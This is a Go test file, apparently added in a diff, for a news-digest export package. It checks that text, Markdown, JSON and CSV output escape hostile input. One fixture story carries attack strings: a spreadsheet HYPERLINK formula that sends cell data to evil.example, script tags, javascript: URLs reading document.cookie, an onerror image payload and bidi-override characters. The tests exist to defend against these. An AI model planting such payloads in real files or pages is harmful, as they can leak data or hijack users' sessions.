@@ -1,0 +1,382 @@
+package export
+
+import (
+	"bytes"
+	"encoding/csv"
+	"encoding/json"
+	"errors"
+	"flag"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"testing"
+	"time"
+	"unicode"
+	"unicode/utf8"
+)
+
+var update = flag.Bool("update", false, "rewrite testdata/*.golden from the current output")
+
+// items is a fixed day's list: two ordinary stories and a hostile one
+// whose every field is text from the web.
+var items = []Item{
+	{
+		ID: 101, ClusterID: 7, Outlet: "The Harbour Gazette", Title: "Port workers vote to strike over night-shift pay",
+		URL:         "https://www.harbourgazette.example/news/2025/03/14/port-workers-vote-to-strike",
+		PublishedAt: time.Date(2025, 3, 14, 7, 45, 0, 0, time.FixedZone("EET", 2*3600)),
+		FoundAt:     time.Date(2025, 3, 14, 6, 0, 0, 0, time.UTC),
+		Line:        "The Harbour Gazette reported that dock workers at the Eastern Terminal voted to strike for 48 hours over night-shift pay.",
+		Status:      "approved", AlsoReportedBy: []string{"Lakeside Courier", "The Tiber Post"},
+		Copies:  []Copy{{Outlet: "Lakeside Courier", URL: "https://lakesidecourier.example/world/port-strike", Reason: "same_title"}},
+		Watches: []string{"IOM"}, Snippet: "…the International Organization for Migration (IOM) said port closures would delay aid…",
+		Score: 0.82, Type: "news", Language: "en",
+	},
+	{
+		ID: 102, ClusterID: 8, Outlet: "Agência Lusa", Title: "Migrantes resgatados ao largo da Madeira (ação da OIM)",
+		URL:         "http://news.example/world/rescue (update)?id=4&lang=pt",
+		PublishedAt: time.Date(2025, 3, 13, 22, 10, 0, 0, time.UTC),
+		Line:        "Agência Lusa reported that 43 migrants were rescued off Madeira, citing the IOM.",
+		Status:      "new", Watches: []string{"IOM", "OIM"}, Snippet: "-5% in arrivals; @OIM_Portugal said the rescue took 6 hours",
+		Type: "news", Language: "pt", Wire: "Lusa",
+	},
+	{
+		ID: 666, ClusterID: 0,
+		Outlet:  `=HYPERLINK("https://evil.example/steal?c="&A1,"Click for details")`,
+		Title:   "<script>alert('x')</script> Breaking\n#667 approved Fake Outlet",
+		URL:     "javascript:alert(document.cookie)",
+		Line:    "Line with\x07bell,\x00null,\x1b[31mescape\x1b[0m, *stars*, _under_, `code`, # hash, | pipe and [click](javascript:alert(1))\n• forged bullet\u2028and a \xff byte",
+		Status:  "new",
+		Snippet: "<img src=x onerror=alert(1)> &amp; <a href=\"javascript:void(0)\">link</a> \u202etxt.exe\u202c \u2067isolate\u2069",
+		Type:    "news",
+	},
+}
+
+// golden compares got with testdata/<name>.golden, or rewrites it with
+// -update.
+func golden(t *testing.T, name string, got []byte) {
+	t.Helper()
+	path := filepath.Join("testdata", name+".golden")
+	if *update {
+		if err := os.WriteFile(path, got, 0o644); err != nil {
+			t.Fatal(err)
+		}
+		return
+	}
+	want, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatalf("%v (go test ./export -update writes it)", err)
+	}
+	if !bytes.Equal(got, want) {
+		t.Errorf("%s: got\n%s\nwant\n%s", path, got, want)
+	}
+}
+
+// writers are Section and List with the formats each accepts.
+var writers = []struct {
+	name    string
+	write   func(*bytes.Buffer, string, []Item) error
+	formats []string
+}{
+	{"section", func(b *bytes.Buffer, f string, it []Item) error { return Section(b, f, it) }, SectionFormats},
+	{"list", func(b *bytes.Buffer, f string, it []Item) error { return List(b, f, it) }, ListFormats},
+}
+
+func TestGolden(t *testing.T) {
+	for _, w := range writers {
+		for _, format := range w.formats {
+			t.Run(w.name+" in "+format+" matches its golden file", func(t *testing.T) {
+				var b bytes.Buffer
+				if err := w.write(&b, format, items); err != nil {
+					t.Fatal(err)
+				}
+				golden(t, w.name+"."+format, b.Bytes())
+			})
+		}
+	}
+}
+
+func TestOutputIsCleanUTF8(t *testing.T) {
+	for _, w := range writers {
+		for _, format := range w.formats {
+			t.Run(w.name+" in "+format+" is valid UTF-8 with no control characters", func(t *testing.T) {
+				var b bytes.Buffer
+				if err := w.write(&b, format, items); err != nil {
+					t.Fatal(err)
+				}
+				out := b.String()
+				if !utf8.ValidString(out) {
+					t.Errorf("output is not valid UTF-8")
+				}
+				for _, r := range out {
+					if unicode.IsControl(r) && r != '\n' {
+						t.Errorf("output contains control character %U", r)
+					}
+					if r == '\u2028' || r == '\u2029' {
+						t.Errorf("output contains line separator %U", r)
+					}
+					if r >= '\u202a' && r <= '\u202e' || r >= '\u2066' && r <= '\u2069' {
+						t.Errorf("output contains bidi control %U", r)
+					}
+				}
+			})
+		}
+	}
+}
+
+func TestSectionText(t *testing.T) {
+	for _, tt := range []struct {
+		name  string
+		items []Item
+	}{
+		{"three stories give three bullets", items},
+		{"a hostile line with a newline and a bullet still gives one bullet", items[2:]},
+		{"no stories give no bullets", nil},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			var b bytes.Buffer
+			if err := Section(&b, "text", tt.items); err != nil {
+				t.Fatal(err)
+			}
+			lines := strings.Split(strings.TrimSuffix(b.String(), "\n"), "\n")
+			if b.Len() == 0 {
+				lines = nil
+			}
+			if len(lines) != len(tt.items) {
+				t.Fatalf("got %d lines, want %d: %q", len(lines), len(tt.items), b.String())
+			}
+			for i, l := range lines {
+				if !strings.HasPrefix(l, "• ") {
+					t.Errorf("line %d: got %q, want it to start with a bullet", i, l)
+				}
+			}
+		})
+	}
+}
+
+func TestListText(t *testing.T) {
+	var b bytes.Buffer
+	if err := List(&b, "text", items); err != nil {
+		t.Fatal(err)
+	}
+	var records []string
+	for _, l := range strings.Split(b.String(), "\n") {
+		if strings.HasPrefix(l, "#") {
+			records = append(records, l)
+		}
+	}
+	if len(records) != len(items) {
+		t.Errorf("got %d records, want %d (a title must not forge one): %q", len(records), len(items), records)
+	}
+}
+
+// mdLinkDest finds link destinations: "](" not escaped with a backslash.
+var mdLinkDest = regexp.MustCompile(`(?:^|[^\\])\]\(([^)\s]*)`)
+
+func TestMarkdown(t *testing.T) {
+	for _, w := range writers {
+		t.Run(w.name+" never has raw HTML or a link that is not http(s)", func(t *testing.T) {
+			var b bytes.Buffer
+			if err := w.write(&b, "md", items); err != nil {
+				t.Fatal(err)
+			}
+			out := b.String()
+			if strings.Contains(strings.ToLower(out), "<script") {
+				t.Errorf("output contains a raw <script: %q", out)
+			}
+			if strings.Contains(out, "<") {
+				t.Errorf("output contains a raw <, which Markdown renders as HTML: %q", out)
+			}
+			for _, m := range mdLinkDest.FindAllStringSubmatch(out, -1) {
+				if !strings.HasPrefix(m[1], "https://") && !strings.HasPrefix(m[1], "http://") {
+					t.Errorf("got a link to %q, want only http(s) links", m[1])
+				}
+			}
+			if n := len(mdLinkDest.FindAllString(out, -1)); n != 2 {
+				t.Errorf("got %d links, want 2 (the two http(s) stories)", n)
+			}
+		})
+	}
+	t.Run("markup characters are escaped", func(t *testing.T) {
+		for in, want := range map[string]string{
+			"*stars* _under_": `\*stars\* \_under\_`,
+			"[x](y)":          `\[x\](y)`,
+			"# a | b `c`":     "\\# a \\| b \\`c\\`",
+			"<b>&":            "&lt;b&gt;&amp;",
+			`back\slash`:      `back\\slash`,
+		} {
+			if got := mdEscape(in); got != want {
+				t.Errorf("mdEscape(%q): got %q, want %q", in, got, want)
+			}
+		}
+	})
+}
+
+func TestJSON(t *testing.T) {
+	keys := []string{"id", "outlet", "title", "url", "published_at", "line", "status", "cluster_id", "also_reported_by", "watches", "snippet"}
+	for _, w := range writers {
+		t.Run(w.name+" is an array of objects with the documented keys", func(t *testing.T) {
+			var b bytes.Buffer
+			if err := w.write(&b, "json", items); err != nil {
+				t.Fatal(err)
+			}
+			var got []map[string]any
+			if err := json.Unmarshal(b.Bytes(), &got); err != nil {
+				t.Fatalf("output is not a JSON array of objects: %v", err)
+			}
+			if len(got) != len(items) {
+				t.Fatalf("got %d objects, want %d", len(got), len(items))
+			}
+			for i, o := range got {
+				for _, k := range keys {
+					if _, ok := o[k]; !ok {
+						t.Errorf("object %d has no %q", i, k)
+					}
+				}
+				for _, k := range []string{"also_reported_by", "watches", "copies"} {
+					if _, ok := o[k].([]any); !ok {
+						t.Errorf("object %d: %q is %v, want a list", i, k, o[k])
+					}
+				}
+			}
+			if got[2]["published_at"] != nil {
+				t.Errorf("published_at with no date: got %v, want null", got[2]["published_at"])
+			}
+			if got[0]["published_at"] != "2025-03-14T05:45:00Z" {
+				t.Errorf("published_at: got %v, want 2025-03-14T05:45:00Z", got[0]["published_at"])
+			}
+		})
+		for _, empty := range []struct {
+			name  string
+			items []Item
+		}{{"nil", nil}, {"empty", []Item{}}} {
+			t.Run(w.name+" of a "+empty.name+" list is []", func(t *testing.T) {
+				var b bytes.Buffer
+				if err := w.write(&b, "json", empty.items); err != nil {
+					t.Fatal(err)
+				}
+				if got := strings.TrimSpace(b.String()); got != "[]" {
+					t.Errorf("got %q, want []", got)
+				}
+			})
+		}
+	}
+}
+
+func TestCSV(t *testing.T) {
+	var b bytes.Buffer
+	if err := List(&b, "csv", items); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&b).ReadAll()
+	if err != nil {
+		t.Fatalf("output does not read back as CSV: %v", err)
+	}
+	if len(rows) != len(items)+1 {
+		t.Fatalf("got %d rows, want a header and %d items", len(rows), len(items))
+	}
+	header := strings.Join(rows[0], ",")
+	if want := "id,status,outlet,title,url,published_at,line,snippet,watches,also_reported_by"; header != want {
+		t.Errorf("header: got %q, want %q", header, want)
+	}
+	for i, row := range rows[1:] {
+		for j, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
+				t.Errorf("row %d, %s: got %q, which a spreadsheet runs as a formula", i+1, rows[0][j], cell)
+			}
+		}
+	}
+	if got, want := rows[3][2], `'=HYPERLINK("https://evil.example/steal?c="&A1,"Click for details")`; got != want {
+		t.Errorf("formula outlet: got %q, want %q", got, want)
+	}
+	if got, want := rows[2][7], "'-5% in arrivals; @OIM_Portugal said the rescue took 6 hours"; got != want {
+		t.Errorf("snippet starting with -: got %q, want %q", got, want)
+	}
+
+	t.Run("an empty list is the header alone", func(t *testing.T) {
+		var b bytes.Buffer
+		if err := List(&b, "csv", nil); err != nil {
+			t.Fatal(err)
+		}
+		if got, want := b.String(), "id,status,outlet,title,url,published_at,line,snippet,watches,also_reported_by\n"; got != want {
+			t.Errorf("got %q, want %q", got, want)
+		}
+	})
+}
+
+func TestEmptyLists(t *testing.T) {
+	for _, w := range writers {
+		for _, format := range w.formats {
+			if format == "json" || format == "csv" {
+				continue // TestJSON and TestCSV check these
+			}
+			t.Run(w.name+" in "+format+" of no stories is empty", func(t *testing.T) {
+				var b bytes.Buffer
+				if err := w.write(&b, format, nil); err != nil {
+					t.Fatal(err)
+				}
+				if b.Len() != 0 {
+					t.Errorf("got %q, want nothing", b.String())
+				}
+			})
+		}
+	}
+}
+
+func TestUnknownFormat(t *testing.T) {
+	for _, tt := range []struct {
+		name, format string
+		write        func(*bytes.Buffer, string, []Item) error
+	}{
+		{"the section has no csv", "csv", writers[0].write},
+		{"the section has no html", "html", writers[0].write},
+		{"the list has no xml", "xml", writers[1].write},
+		{"formats are lower case", "TEXT", writers[1].write},
+		{"an empty format is unknown", "", writers[0].write},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			var b bytes.Buffer
+			err := tt.write(&b, tt.format, items)
+			if !errors.Is(err, ErrFormat) {
+				t.Errorf("got %v, want an error wrapping ErrFormat", err)
+			}
+			if b.Len() != 0 {
+				t.Errorf("wrote %q before failing", b.String())
+			}
+		})
+	}
+}
+
+// failWriter fails every write, as a full disk or a closed pipe does.
+type failWriter struct{}
+
+var errDiskFull = errors.New("no space left on device")
+
+func (failWriter) Write([]byte) (int, error) { return 0, errDiskFull }
+
+func TestWriteErrors(t *testing.T) {
+	for _, format := range SectionFormats {
+		t.Run("the section in "+format+" returns the writer's error", func(t *testing.T) {
+			if err := Section(failWriter{}, format, items); !errors.Is(err, errDiskFull) {
+				t.Errorf("got %v, want %v", err, errDiskFull)
+			}
+		})
+	}
+	for _, format := range ListFormats {
+		t.Run("the list in "+format+" returns the writer's error", func(t *testing.T) {
+			if err := List(failWriter{}, format, items); !errors.Is(err, errDiskFull) {
+				t.Errorf("got %v, want %v", err, errDiskFull)
+			}
+		})
+	}
+}
+
+func ExampleSection() {
+	_ = Section(os.Stdout, "md", []Item{
+		{Line: "The Harbour Gazette reported that dock workers voted to strike.", URL: "https://harbourgazette.example/news/strike"},
+		{Line: "A *hostile* <b>line</b>", URL: "javascript:alert(1)"},
+	})
+	// Output:
+	// - [The Harbour Gazette reported that dock workers voted to strike.](https://harbourgazette.example/news/strike)
+	// - A \*hostile\* &lt;b&gt;line&lt;/b&gt;
+}
